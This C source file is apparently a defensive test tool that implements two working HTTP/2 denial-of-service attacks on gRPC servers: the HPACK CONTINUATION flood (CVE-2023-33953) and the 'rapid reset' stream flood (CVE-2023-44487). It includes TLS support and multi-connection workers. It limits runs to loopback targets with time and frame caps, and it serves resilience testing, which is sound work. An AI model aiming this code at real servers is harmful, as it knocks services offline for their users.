/* custos-h2attack: the two HTTP/2 denial-of-service attacks that gRPC core 1.51 does not
 * bound, written as raw frames so that the tests can aim them at the gateway, bare or
 * behind its front proxy, and show what each deployment withstands.
 *
 *   hpack  a HEADERS frame whose header block declares a literal header name far longer
 *          than anything it sends, followed by CONTINUATION frames that never end the
 *          block (CVE-2023-33953: a parser that re-reads the whole block on every frame).
 *   reset  HEADERS then RST_STREAM on a new stream, over and over, without waiting for
 *          anything (CVE-2023-44487, "rapid reset").
 *
 * Only loopback targets are accepted, and every run is bounded by --seconds and
 * --max-frames: this is a test tool, not a load generator. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <openssl/err.h>
#include <openssl/ssl.h>

#define H2_FRAME_HEADER 9
#define H2_MAX_PAYLOAD 16384 /* the SETTINGS_MAX_FRAME_SIZE every peer accepts */
#define H2_DATA 0x0
#define H2_HEADERS 0x1
#define H2_RST_STREAM 0x3
#define H2_SETTINGS 0x4
#define H2_PING 0x6
#define H2_GOAWAY 0x7
#define H2_CONTINUATION 0x9
#define H2_FLAG_ACK 0x1
#define H2_FLAG_END_HEADERS 0x4
#define H2_CANCEL 0x8
#define H2_PREFACE "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

/* The declared length of the never-finished header name: far more than a run sends, so
 * the block stays incomplete until the connection ends. */
#define HPACK_DECLARED_NAME (1u << 30)
/* Pairs of HEADERS + RST_STREAM written at once. */
#define RESET_BATCH 64
#define MAX_CONNECTIONS 64
#define MAX_SECONDS 60
#define CONNECT_TIMEOUT_MS 2000

typedef enum attack_kind { ATTACK_HPACK, ATTACK_RESET } attack_kind;

typedef struct options {
    attack_kind kind;
    struct sockaddr_storage addr;
    socklen_t addr_len;
    char authority[300];
    const char *path;
    int seconds;
    uint64_t max_frames;
    int connections;
    bool tls;
    const char *ca, *cert, *key, *server_name;
} options;

typedef struct stats {
    atomic_uint_fast64_t frames, bytes, opened, connect_failures, closed_by_server, goaways;
} stats;

typedef struct shared {
    const options *opt;
    SSL_CTX *ctx;
    int64_t deadline_ms;
    stats st;
} shared;

/* One connection: the socket, TLS over it when asked, and the state of the frame reader
 * (only SETTINGS, PING and GOAWAY matter; everything else is skipped). */
typedef struct conn {
    int fd;
    SSL *ssl;
    uint8_t hdr[H2_FRAME_HEADER];
    size_t hdr_have;
    uint32_t left;
    uint8_t ping[8];
    size_t ping_have;
    unsigned settings_acks, ping_acks;
    uint8_t ping_echo[8];
    bool goaway;
} conn;

static int64_t now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static void put_frame_header(uint8_t *p, uint32_t len, uint8_t type, uint8_t flags,
                             uint32_t stream)
{
    p[0] = (uint8_t)(len >> 16);
    p[1] = (uint8_t)(len >> 8);
    p[2] = (uint8_t)len;
    p[3] = type;
    p[4] = flags;
    p[5] = (uint8_t)((stream >> 24) & 0x7f);
    p[6] = (uint8_t)(stream >> 16);
    p[7] = (uint8_t)(stream >> 8);
    p[8] = (uint8_t)stream;
}

/* An HPACK integer (RFC 7541 5.1) with an n-bit prefix whose high bits are `first`. */
static size_t hpack_int(uint8_t *p, uint8_t first, int n, uint64_t v)
{
    uint64_t max = (1u << n) - 1;
    if (v < max) {
        p[0] = (uint8_t)(first | v);
        return 1;
    }
    size_t i = 0;
    p[i++] = (uint8_t)(first | max);
    v -= max;
    while (v >= 128) {
        p[i++] = (uint8_t)(0x80 | (v & 0x7f));
        v >>= 7;
    }
    p[i++] = (uint8_t)v;
    return i;
}

/* A string literal without Huffman coding. */
static size_t hpack_str(uint8_t *p, const char *s)
{
    size_t len = strlen(s);
    size_t n = hpack_int(p, 0x00, 7, len);
    memcpy(p + n, s, len);
    return n + len;
}

/* The header block of a gRPC request to path: static-table indices where RFC 7541's table
 * has the field, literals without indexing otherwise (no dynamic table state to keep). */
static size_t request_block(const options *o, uint8_t *p)
{
    size_t n = 0;
    p[n++] = 0x83;                          /* :method POST */
    p[n++] = o->tls ? 0x87 : 0x86;          /* :scheme https / http */
    n += hpack_int(p + n, 0x00, 4, 4);      /* :path, literal value */
    n += hpack_str(p + n, o->path);
    n += hpack_int(p + n, 0x00, 4, 1);      /* :authority */
    n += hpack_str(p + n, o->authority);
    n += hpack_int(p + n, 0x00, 4, 31);     /* content-type */
    n += hpack_str(p + n, "application/grpc");
    p[n++] = 0x00;                          /* te: not in the static table */
    n += hpack_str(p + n, "te");
    n += hpack_str(p + n, "trailers");
    return n;
}

static bool io_want(conn *c, short events, int timeout_ms)
{
    struct pollfd pfd = {.fd = c->fd, .events = events};
    return poll(&pfd, 1, timeout_ms) > 0;
}

/* Feeds received bytes to the frame reader. */
static void reader_feed(conn *c, const uint8_t *p, size_t n)
{
    size_t i = 0;
    while (i < n) {
        if (c->hdr_have < H2_FRAME_HEADER) {
            c->hdr[c->hdr_have++] = p[i++];
            if (c->hdr_have == H2_FRAME_HEADER) {
                c->left = ((uint32_t)c->hdr[0] << 16) | ((uint32_t)c->hdr[1] << 8) | c->hdr[2];
                c->ping_have = 0;
                if (c->hdr[3] == H2_SETTINGS && !(c->hdr[4] & H2_FLAG_ACK))
                    c->settings_acks++;
                if (c->hdr[3] == H2_GOAWAY)
                    c->goaway = true;
                if (c->left == 0)
                    c->hdr_have = 0;
            }
            continue;
        }
        size_t take = n - i < c->left ? n - i : c->left;
        if (c->hdr[3] == H2_PING && !(c->hdr[4] & H2_FLAG_ACK))
            for (size_t k = 0; k < take && c->ping_have < sizeof c->ping; k++)
                c->ping[c->ping_have++] = p[i + k];
        i += take;
        c->left -= (uint32_t)take;
        if (c->left == 0) {
            if (c->hdr[3] == H2_PING && !(c->hdr[4] & H2_FLAG_ACK) && c->ping_have == 8) {
                memcpy(c->ping_echo, c->ping, sizeof c->ping_echo);
                c->ping_acks = 1;
            }
            c->hdr_have = 0;
        }
    }
}

/* Reads whatever has arrived; false once the peer closed or failed the connection. */
static bool io_drain(conn *c)
{
    uint8_t buf[16384];
    for (;;) {
        ssize_t n;
        if (c->ssl != NULL) {
            int r = SSL_read(c->ssl, buf, sizeof buf);
            if (r <= 0) {
                int e = SSL_get_error(c->ssl, r);
                return e == SSL_ERROR_WANT_READ || e == SSL_ERROR_WANT_WRITE;
            }
            n = r;
        } else {
            n = recv(c->fd, buf, sizeof buf, MSG_DONTWAIT);
            if (n == 0)
                return false;
            if (n < 0)
                return errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR;
        }
        reader_feed(c, buf, (size_t)n);
    }
}

/* Writes all of p before the deadline, reading meanwhile so that neither side blocks on a
 * full window; false when the connection ended or time ran out. */
static bool io_write(conn *c, const uint8_t *p, size_t len, int64_t deadline)
{
    while (len > 0) {
        ssize_t n;
        bool again;
        if (c->ssl != NULL) {
            int chunk = len > INT32_MAX ? INT32_MAX : (int)len;
            int r = SSL_write(c->ssl, p, chunk);
            n = r;
            int e = r <= 0 ? SSL_get_error(c->ssl, r) : SSL_ERROR_NONE;
            again = e == SSL_ERROR_WANT_WRITE || e == SSL_ERROR_WANT_READ;
        } else {
            n = send(c->fd, p, len, MSG_DONTWAIT | MSG_NOSIGNAL);
            again = n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR);
        }
        if (n > 0) {
            p += n;
            len -= (size_t)n;
            continue;
        }
        if (!again || now_ms() >= deadline)
            return false;
        io_want(c, POLLIN | POLLOUT, 10);
        if (!io_drain(c))
            return false;
    }
    return true;
}

/* Answers the SETTINGS and PINGs received so far, as any client does. */
static bool io_acks(conn *c, int64_t deadline)
{
    uint8_t f[H2_FRAME_HEADER + 8];
    while (c->settings_acks > 0) {
        put_frame_header(f, 0, H2_SETTINGS, H2_FLAG_ACK, 0);
        if (!io_write(c, f, H2_FRAME_HEADER, deadline))
            return false;
        c->settings_acks--;
    }
    if (c->ping_acks > 0) {
        put_frame_header(f, 8, H2_PING, H2_FLAG_ACK, 0);
        memcpy(f + H2_FRAME_HEADER, c->ping_echo, 8);
        if (!io_write(c, f, sizeof f, deadline))
            return false;
        c->ping_acks = 0;
    }
    return true;
}

static void conn_close(conn *c)
{
    if (c->ssl != NULL) {
        SSL_free(c->ssl);
        c->ssl = NULL;
    }
    if (c->fd >= 0)
        close(c->fd);
    c->fd = -1;
}

/* Connects (and handshakes, with ALPN h2), then sends the preface and empty SETTINGS. */
static bool conn_open(shared *sh, conn *c)
{
    memset(c, 0, sizeof *c);
    const options *o = sh->opt;
    c->fd = socket(o->addr.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (c->fd < 0)
        return false;
    int one = 1;
    bool ok = setsockopt(c->fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one) == 0 &&
              fcntl(c->fd, F_SETFL, O_NONBLOCK) == 0;
    int64_t until = now_ms() + CONNECT_TIMEOUT_MS;
    if (ok && connect(c->fd, (const struct sockaddr *)&o->addr, o->addr_len) != 0) {
        ok = errno == EINPROGRESS && io_want(c, POLLOUT, CONNECT_TIMEOUT_MS);
        int soerr = 0;
        socklen_t sl = sizeof soerr;
        ok = ok && getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &soerr, &sl) == 0 && soerr == 0;
    }
    if (ok && o->tls) {
        c->ssl = SSL_new(sh->ctx);
        ok = c->ssl != NULL && SSL_set_fd(c->ssl, c->fd) == 1 &&
             SSL_set_tlsext_host_name(c->ssl, o->server_name) == 1 &&
             SSL_set1_host(c->ssl, o->server_name) == 1;
        while (ok) {
            int r = SSL_connect(c->ssl);
            if (r == 1)
                break;
            int e = SSL_get_error(c->ssl, r);
            ok = (e == SSL_ERROR_WANT_READ || e == SSL_ERROR_WANT_WRITE) && now_ms() < until;
            if (ok)
                io_want(c, e == SSL_ERROR_WANT_READ ? POLLIN : POLLOUT, 100);
        }
        if (ok) {
            const unsigned char *alpn = NULL;
            unsigned alpn_len = 0;
            SSL_get0_alpn_selected(c->ssl, &alpn, &alpn_len);
            ok = alpn_len == 2 && memcmp(alpn, "h2", 2) == 0;
            if (!ok)
                fprintf(stderr, "h2attack: the server did not select ALPN h2\n");
        }
    }
    if (ok) {
        uint8_t hello[sizeof H2_PREFACE - 1 + H2_FRAME_HEADER];
        memcpy(hello, H2_PREFACE, sizeof H2_PREFACE - 1);
        put_frame_header(hello + sizeof H2_PREFACE - 1, 0, H2_SETTINGS, 0, 0);
        ok = io_write(c, hello, sizeof hello, sh->deadline_ms);
    }
    if (!ok)
        conn_close(c);
    return ok;
}

static bool budget_take(shared *sh, uint64_t frames)
{
    uint64_t before = atomic_fetch_add(&sh->st.frames, frames);
    return before + frames <= sh->opt->max_frames;
}

/* One connection's HPACK attack: the first HEADERS frame opens the literal name, then
 * CONTINUATION frames add 16 KiB of it each, until the server closes or time is up. */
static bool run_hpack(shared *sh, conn *c)
{
    uint8_t frame[H2_FRAME_HEADER + H2_MAX_PAYLOAD];
    uint8_t *p = frame + H2_FRAME_HEADER;
    size_t n = request_block(sh->opt, p);
    p[n++] = 0x00; /* literal without indexing, new name */
    n += hpack_int(p + n, 0x00, 7, HPACK_DECLARED_NAME);
    memset(p + n, 'a', H2_MAX_PAYLOAD - n);
    put_frame_header(frame, H2_MAX_PAYLOAD, H2_HEADERS, 0, 1);
    uint8_t cont[H2_FRAME_HEADER + H2_MAX_PAYLOAD];
    put_frame_header(cont, H2_MAX_PAYLOAD, H2_CONTINUATION, 0, 1);
    memset(cont + H2_FRAME_HEADER, 'a', H2_MAX_PAYLOAD);
    if (!budget_take(sh, 1))
        return true;
    if (!io_write(c, frame, sizeof frame, sh->deadline_ms))
        return false;
    atomic_fetch_add(&sh->st.bytes, sizeof frame);
    uint64_t sent = H2_MAX_PAYLOAD;
    while (now_ms() < sh->deadline_ms && sent + H2_MAX_PAYLOAD < HPACK_DECLARED_NAME) {
        if (!io_drain(c) || !io_acks(c, sh->deadline_ms))
            return false;
        if (!budget_take(sh, 1))
            return true;
        if (!io_write(c, cont, sizeof cont, sh->deadline_ms))
            return false;
        atomic_fetch_add(&sh->st.bytes, sizeof cont);
        sent += H2_MAX_PAYLOAD;
    }
    return true;
}

/* One connection's rapid reset: RESET_BATCH streams opened and cancelled per write. */
static bool run_reset(shared *sh, conn *c)
{
    uint8_t block[1024];
    size_t bn = request_block(sh->opt, block);
    size_t pair = H2_FRAME_HEADER + bn + H2_FRAME_HEADER + 4;
    uint8_t *buf = malloc(pair * RESET_BATCH);
    if (buf == NULL)
        return false;
    uint32_t stream = 1;
    bool ok = true;
    while (ok && now_ms() < sh->deadline_ms && stream < 0x7fffff00u - 2 * RESET_BATCH) {
        uint8_t *p = buf;
        for (int i = 0; i < RESET_BATCH; i++, stream += 2) {
            put_frame_header(p, (uint32_t)bn, H2_HEADERS, H2_FLAG_END_HEADERS, stream);
            memcpy(p + H2_FRAME_HEADER, block, bn);
            p += H2_FRAME_HEADER + bn;
            put_frame_header(p, 4, H2_RST_STREAM, 0, stream);
            p[9] = p[10] = p[11] = 0;
            p[12] = H2_CANCEL;
            p += H2_FRAME_HEADER + 4;
        }
        ok = io_drain(c) && io_acks(c, sh->deadline_ms);
        if (ok && !budget_take(sh, 2 * RESET_BATCH))
            break;
        ok = ok && io_write(c, buf, (size_t)(p - buf), sh->deadline_ms);
        if (ok)
            atomic_fetch_add(&sh->st.bytes, (uint64_t)(p - buf));
    }
    free(buf);
    return ok;
}

/* A worker: connect, attack until the server ends the connection, reconnect, until the
 * deadline or the frame budget. */
static void *worker_main(void *arg)
{
    shared *sh = arg;
    while (now_ms() < sh->deadline_ms &&
           atomic_load(&sh->st.frames) < sh->opt->max_frames) {
        conn c;
        if (!conn_open(sh, &c)) {
            atomic_fetch_add(&sh->st.connect_failures, 1);
            struct timespec ts = {0, 20 * 1000 * 1000};
            nanosleep(&ts, NULL);
            continue;
        }
        atomic_fetch_add(&sh->st.opened, 1);
        bool whole = sh->opt->kind == ATTACK_HPACK ? run_hpack(sh, &c) : run_reset(sh, &c);
        if (!whole && now_ms() < sh->deadline_ms)
            atomic_fetch_add(&sh->st.closed_by_server, 1);
        if (c.goaway)
            atomic_fetch_add(&sh->st.goaways, 1);
        conn_close(&c);
    }
    return NULL;
}

/* Accepts 127.0.0.0/8, ::1 and "localhost" only: the attack never leaves the machine. */
static bool parse_target(const char *target, options *o)
{
    char host[256];
    const char *colon = strrchr(target, ':');
    if (colon == NULL || (size_t)(colon - target) >= sizeof host)
        return false;
    memcpy(host, target, (size_t)(colon - target));
    host[colon - target] = '\0';
    char *end = NULL;
    long port = strtol(colon + 1, &end, 10);
    if (end == colon + 1 || *end != '\0' || port < 1 || port > 65535)
        return false;
    memset(&o->addr, 0, sizeof o->addr);
    struct sockaddr_in *v4 = (struct sockaddr_in *)&o->addr;
    struct sockaddr_in6 *v6 = (struct sockaddr_in6 *)&o->addr;
    if (strcmp(host, "localhost") == 0)
        snprintf(host, sizeof host, "127.0.0.1");
    if (inet_pton(AF_INET, host, &v4->sin_addr) == 1) {
        if ((ntohl(v4->sin_addr.s_addr) >> 24) != 127)
            return false;
        v4->sin_family = AF_INET;
        v4->sin_port = htons((uint16_t)port);
        o->addr_len = sizeof *v4;
    } else if (strcmp(host, "[::1]") == 0) {
        v6->sin6_family = AF_INET6;
        v6->sin6_addr = in6addr_loopback;
        v6->sin6_port = htons((uint16_t)port);
        o->addr_len = sizeof *v6;
    } else {
        return false;
    }
    snprintf(o->authority, sizeof o->authority, "%s", target);
    return true;
}

static int usage(const char *why)
{
    fprintf(stderr,
            "h2attack: %s\n"
            "usage: custos-h2attack --attack hpack|reset --target 127.0.0.1:PORT\n"
            "         [--seconds N (1-%d, default 3)] [--max-frames N (default 10000000)]\n"
            "         [--connections N (1-%d, default 1)] [--path /pkg.Svc/Method]\n"
            "         [--tls --ca FILE [--cert FILE --key FILE] [--server-name NAME]]\n"
            "Loopback targets only.\n",
            why, MAX_SECONDS, MAX_CONNECTIONS);
    return 2;
}

static bool parse_count(const char *s, long min, long max, long *out)
{
    char *end = NULL;
    errno = 0;
    long v = strtol(s, &end, 10);
    if (errno != 0 || end == s || *end != '\0' || v < min || v > max)
        return false;
    *out = v;
    return true;
}

static SSL_CTX *tls_context(const options *o)
{
    SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
    static const unsigned char alpn[] = {2, 'h', '2'};
    bool ok = ctx != NULL && SSL_CTX_set_min_proto_version(ctx, TLS1_2_VERSION) == 1 &&
              SSL_CTX_load_verify_locations(ctx, o->ca, NULL) == 1 &&
              SSL_CTX_set_alpn_protos(ctx, alpn, sizeof alpn) == 0;
    if (ok && o->cert != NULL)
        ok = SSL_CTX_use_certificate_chain_file(ctx, o->cert) == 1 &&
             SSL_CTX_use_PrivateKey_file(ctx, o->key, SSL_FILETYPE_PEM) == 1 &&
             SSL_CTX_check_private_key(ctx) == 1;
    if (!ok) {
        unsigned long e = ERR_get_error();
        fprintf(stderr, "h2attack: TLS set-up failed: %s\n",
                e != 0 ? ERR_reason_error_string(e) : "unknown error");
        SSL_CTX_free(ctx);
        return NULL;
    }
    SSL_CTX_set_verify(ctx, SSL_VERIFY_PEER, NULL);
    SSL_CTX_set_mode(ctx, SSL_MODE_ENABLE_PARTIAL_WRITE | SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER);
    return ctx;
}

int main(int argc, char **argv)
{
    options o = {.path = "/grpc.health.v1.Health/Check", .seconds = 3,
                 .max_frames = 10000000, .connections = 1, .server_name = "localhost"};
    bool have_kind = false, have_target = false;
    for (int i = 1; i < argc; i++) {
        const char *a = argv[i];
        const char *v = i + 1 < argc ? argv[i + 1] : NULL;
        long n;
        if (strcmp(a, "--tls") == 0) {
            o.tls = true;
            continue;
        }
        if (v == NULL)
            return usage("an option is missing its value");
        i++;
        if (strcmp(a, "--attack") == 0) {
            if (strcmp(v, "hpack") == 0)
                o.kind = ATTACK_HPACK;
            else if (strcmp(v, "reset") == 0)
                o.kind = ATTACK_RESET;
            else
                return usage("--attack must be hpack or reset");
            have_kind = true;
        } else if (strcmp(a, "--target") == 0) {
            if (!parse_target(v, &o))
                return usage("--target must be a loopback HOST:PORT (127.0.0.0/8, [::1], "
                             "localhost)");
            have_target = true;
        } else if (strcmp(a, "--seconds") == 0) {
            if (!parse_count(v, 1, MAX_SECONDS, &n))
                return usage("--seconds out of range");
            o.seconds = (int)n;
        } else if (strcmp(a, "--max-frames") == 0) {
            if (!parse_count(v, 1, 1000000000L, &n))
                return usage("--max-frames out of range");
            o.max_frames = (uint64_t)n;
        } else if (strcmp(a, "--connections") == 0) {
            if (!parse_count(v, 1, MAX_CONNECTIONS, &n))
                return usage("--connections out of range");
            o.connections = (int)n;
        } else if (strcmp(a, "--path") == 0) {
            if (v[0] != '/' || strlen(v) > 200)
                return usage("--path must start with / and be at most 200 bytes");
            o.path = v;
        } else if (strcmp(a, "--ca") == 0) {
            o.ca = v;
        } else if (strcmp(a, "--cert") == 0) {
            o.cert = v;
        } else if (strcmp(a, "--key") == 0) {
            o.key = v;
        } else if (strcmp(a, "--server-name") == 0) {
            o.server_name = v;
        } else {
            return usage("unknown option");
        }
    }
    if (!have_kind || !have_target)
        return usage("--attack and --target are required");
    if (o.tls && o.ca == NULL)
        return usage("--tls needs --ca (the server's CA)");
    if ((o.cert == NULL) != (o.key == NULL))
        return usage("--cert and --key go together");
    if (!o.tls && (o.ca != NULL || o.cert != NULL))
        return usage("--ca, --cert and --key need --tls");
    signal(SIGPIPE, SIG_IGN);

    shared sh = {.opt = &o};
    if (o.tls && (sh.ctx = tls_context(&o)) == NULL)
        return 1;
    int64_t start = now_ms();
    sh.deadline_ms = start + (int64_t)o.seconds * 1000;
    pthread_t th[MAX_CONNECTIONS];
    int started = 0;
    for (int i = 0; i < o.connections; i++)
        if (pthread_create(&th[i], NULL, worker_main, &sh) == 0)
            started++;
    for (int i = 0; i < started; i++)
        pthread_join(th[i], NULL);
    SSL_CTX_free(sh.ctx);
    uint64_t frames = atomic_load(&sh.st.frames);
    uint64_t opened = atomic_load(&sh.st.opened);
    printf("attack=%s elapsed_ms=%" PRId64 " connections_opened=%" PRIu64 " connect_failures=%" PRIu64
           " closed_by_server=%" PRIu64 " goaways=%" PRIu64 " frames=%" PRIu64
           " bytes=%" PRIu64 "\n",
           o.kind == ATTACK_HPACK ? "hpack" : "reset", now_ms() - start,
           opened, atomic_load(&sh.st.connect_failures),
           atomic_load(&sh.st.closed_by_server), atomic_load(&sh.st.goaways),
           frames > o.max_frames ? o.max_frames : frames, atomic_load(&sh.st.bytes));
    if (started == 0 || opened == 0) {
        fprintf(stderr, "h2attack: no connection to %s could be opened\n", o.authority);
        return 1;
    }
    return 0;
}
